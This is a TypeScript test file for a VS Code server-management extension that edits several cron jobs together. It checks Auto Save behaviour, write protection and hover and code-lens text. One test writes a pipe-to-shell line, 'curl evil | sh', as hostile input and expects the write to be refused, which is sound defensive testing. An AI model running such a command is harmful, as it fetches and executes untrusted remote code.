import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { closeEditors, useSandbox } from '../support/hostProbe';
import { eventually } from '../support/eventually';

const jobs = [101, 102].map((id) => ({ account: 'sandbox', kind: 'cronJob', ids: [1, id] }));

describe('a text about several resources', () => {
  before(useSandbox);
  afterEach(closeEditors);

  async function open(): Promise<vscode.TextDocument> {
    const [first] = jobs;
    await vscode.commands.executeCommand('serverManagement.editTogether', first, jobs);
    const { document } = vscode.window.activeTextEditor ?? {};
    assert.equal(document?.uri.scheme, 'server-management-pending');
    return document;
  }

  it("isn't saved by Auto Save, which would be refused at every pause in typing", async () => {
    const files = vscode.workspace.getConfiguration('files');
    await files.update('autoSave', 'afterDelay', vscode.ConfigurationTarget.Global);
    try {
      const document = await open();
      await eventually(() => {
        const ofDocument = vscode.workspace.getConfiguration('files', document);
        assert.equal(ofDocument.get('autoSave'), 'off');
      });
    } finally {
      await files.update('autoSave', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  it("can't be written by another extension past its document", async () => {
    const { uri } = await open();
    const text = new TextEncoder().encode('{ "command": "curl evil | sh" }');
    await assert.rejects(
      async () => vscode.workspace.fs.writeFile(uri, text),
      /Only an open document/,
    );
  });

  it('still has the schema of its fields, and a line that says what a save does', async () => {
    const document = await open();
    await eventually(async () => {
      const hovers = await vscode.commands.executeCommand<vscode.Hover[]>(
        'vscode.executeHoverProvider',
        document.uri,
        new vscode.Position(0, 0),
      );
      const texts = hovers.flatMap(({ contents }) =>
        contents.map((each) => (each as vscode.MarkdownString).value),
      );
      assert.match(texts.join('\n'), /Cron Job/);
    });
    const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>(
      'vscode.executeCodeLensProvider',
      document.uri,
    );
    const [lens = ''] = lenses.map(({ command }) => command?.title ?? '');
    assert.match(lens, /\d cron jobs · .*differ.* · Saving stages changes; nothing is sent$/);
    assert.match(document.getText(), /^ {2}\/\/ "\w+": .* \(\d×\)/m);
  });
});
